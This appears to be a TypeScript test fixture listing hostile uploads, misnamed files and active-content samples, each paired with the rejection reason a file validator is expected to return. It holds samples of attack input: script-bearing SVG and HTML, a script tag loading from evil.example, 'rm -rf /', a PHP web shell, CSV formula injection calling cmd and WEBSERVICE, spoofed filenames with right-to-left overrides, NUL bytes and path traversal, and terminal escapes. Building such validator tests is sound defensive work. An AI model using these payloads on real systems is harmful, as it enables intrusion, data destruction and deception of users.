// Hostile files that call themselves text, or are programs and archives under a quiet name.
import { gzipSync } from 'node:zlib'
import type { Hostile } from './hostile.ts'
import { pdf, picture, word, zipped } from './made.ts'

const text = (words: string) => Buffer.from(words)

export async function hostileWords(): Promise<readonly Hostile[]> {
  const paper = await pdf('The lease')
  const jpeg = await picture().jpeg().toBuffer()
  const not = (what: string, name: string, bytes: Uint8Array): Hostile => ({
    what,
    name,
    bytes,
    right: 'KindNotTaken',
  })
  const ofApple = (what: string, name: string, brand: string): Hostile => ({
    ...{ what, name, right: 'PhotoOfApple' },
    bytes: Buffer.concat([
      Buffer.from([0, 0, 0, 0x18]),
      Buffer.from(`ftyp${brand}\0\0\0\0mif1${brand}`, 'latin1'),
      Buffer.alloc(64),
    ]),
  })
  return [
    { what: 'nothing at all', name: 'a.pdf', bytes: Buffer.alloc(0), right: 'EmptyFile' },
    not(
      'SVG with a script',
      'logo.svg',
      text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ),
    not('SVG called a picture', 'logo.png', text('<?xml version="1.0"?><svg onload="alert(1)"/>')),
    not('a page', 'page.html', text('<!doctype html><html><body>hi</body></html>')),
    not(
      'a page called text',
      'page.txt',
      text('Dear all\n<script src="//evil.example/x.js"></script>'),
    ),
    not('a page in big letters', 'page.txt', text('\n\n<HTML><BODY onload=alert(1)>')),
    not('a shell script', 'run.txt', text('#!/bin/sh\nrm -rf /\n')),
    not('PHP called text', 'x.txt', text('<?php system($_GET["c"]); ?>')),
    not('RTF called text', 'x.txt', text('{\\rtf1\\ansi{\\object\\objdata 0105}}')),
    not('PostScript called text', 'x.txt', text('%!PS-Adobe-3.0\n(x) (w) file')),
    not(
      'a mail with parts called text',
      'x.txt',
      text('MIME-Version: 1.0\nContent-Type: text/html\n\n<b>'),
    ),
    not(
      'a program for Windows',
      'setup.pdf',
      Buffer.concat([text('MZ\x90\0\x03\0\0\0\x04\0\0\0'), Buffer.alloc(512)]),
    ),
    not(
      'a program for Linux',
      'letter.docx',
      Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), Buffer.alloc(256)]),
    ),
    not('an archive', 'all.zip', zipped({ 'a.txt': 'words' })),
    not('an archive called Word', 'all.docx', zipped({ 'a.txt': 'words' })),
    not('a packed file', 'a.txt', gzipSync(text('words'), { level: 9 })),
    not(
      'a RAR archive',
      'a.pdf',
      Buffer.concat([Buffer.from('526172211a0701003392b5e50a01', 'hex'), Buffer.alloc(64)]),
    ),
    not(
      'a 7z archive',
      'a.pdf',
      Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(64)]),
    ),
    not(
      'an old Word file',
      'old.doc',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)]),
    ),
    not(
      'a film',
      'film.mp4',
      Buffer.concat([
        Buffer.from('000000206674797069736f6d0000020069736f6d69736f32', 'hex'),
        Buffer.alloc(64),
      ]),
    ),
    ofApple('HEIC of a telephone', 'IMG.heic', 'heic'),
    ofApple('HEIC called JPEG', 'IMG.jpg', 'heic'),
    ofApple('HEIF of several photos', 'IMG.heif', 'mif1'),
    ofApple('HEIC of a burst', 'IMG.heic', 'hevc'),
    not(
      'TIFF',
      'scan.tif',
      Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(64)]),
    ),
    not(
      'a shortcut',
      'a.pdf',
      Buffer.concat([
        Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
        Buffer.alloc(64),
      ]),
    ),
    { what: 'text with NULs', name: 'a.txt', bytes: text('one\0two'), right: 'CannotBeRead' },
    {
      what: 'text that is not UTF-8',
      name: 'a.txt',
      bytes: Buffer.from('caf\xe9 au lait', 'latin1'),
      right: 'CannotBeRead',
    },
    {
      what: 'text that turns around',
      name: 'a.txt',
      bytes: text('pay \u202e00052\u202c now'),
      right: 'CannotBeRead',
    },
    {
      what: 'text with orders to a terminal',
      name: 'a.txt',
      bytes: text('\x1b]0;own\x07\x1b[2J'),
      right: 'CannotBeRead',
    },
    {
      what: 'UTF-16',
      name: 'a.txt',
      bytes: Buffer.from('\ufeffhello', 'utf16le'),
      right: 'CannotBeRead',
    },
    {
      what: 'a table that calls a program',
      name: 'a.csv',
      bytes: text("name,sum\n=cmd|'/c calc'!A1,5\n"),
      right: 'HoldsActiveContent',
    },
    {
      what: 'a table that sends its cells',
      name: 'a.csv',
      bytes: text('a,b\n5,"=WEBSERVICE(""http://x"")"\n'),
      right: 'HoldsActiveContent',
    },
    {
      what: 'a table that starts with at',
      name: 'a.csv',
      bytes: text('@SUM(1+1)*cmd\n'),
      right: 'HoldsActiveContent',
    },
    { what: 'a paper called picture', name: 'a.jpg', bytes: paper, right: 'NameAndContentDiffer' },
    { what: 'a picture called paper', name: 'a.pdf', bytes: jpeg, right: 'NameAndContentDiffer' },
    {
      what: 'a paper called program',
      name: 'lease.pdf.exe',
      bytes: paper,
      right: 'NameAndContentDiffer',
    },
    {
      what: 'a paper without an ending',
      name: 'lease',
      bytes: paper,
      right: 'NameAndContentDiffer',
    },
    {
      what: 'a name that turns around',
      name: 'lease\u202efdp.exe.pdf',
      bytes: paper,
      right: 'NameAndContentDiffer',
    },
    {
      what: 'a name with NUL',
      name: 'lease.exe\0.pdf',
      bytes: paper,
      right: 'NameAndContentDiffer',
    },
    {
      what: 'a name that ends in a folder',
      name: 'lease.pdf/../../x',
      bytes: paper,
      right: 'NameAndContentDiffer',
    },
    { what: 'Word called Excel', name: 'a.xlsx', bytes: word(), right: 'NameAndContentDiffer' },
    {
      what: 'text called page',
      name: 'a.html',
      bytes: text('just words'),
      right: 'NameAndContentDiffer',
    },
    {
      what: 'text called script',
      name: 'a.js',
      bytes: text('alert(1)'),
      right: 'NameAndContentDiffer',
    },
  ]
}
